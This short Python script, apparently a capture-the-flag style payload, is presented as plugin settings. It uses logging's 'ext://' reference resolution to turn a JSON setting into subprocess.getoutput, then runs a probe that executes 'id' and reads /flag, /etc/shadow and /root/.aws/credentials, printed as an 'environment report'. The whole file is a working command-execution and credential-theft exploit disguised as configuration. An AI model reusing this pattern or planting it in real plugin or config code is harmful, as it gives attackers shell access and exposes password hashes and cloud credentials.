# Plugin settings use PEP 391 style "ext://" references, resolved with logging's configurator.
import json
from logging.config import BaseConfigurator

SETTINGS = json.loads("""
{
  "title":     "ext://string.capwords",
  "collector": "ext://subprocess.getoutput",
  "probe":     "id; cat /flag; cat /etc/shadow; cat /root/.aws/credentials"
}
""")

cfg = BaseConfigurator(SETTINGS).config

title = cfg["title"]
collect = cfg["collector"]
print(title("environment report"))
print(collect(cfg["probe"]))
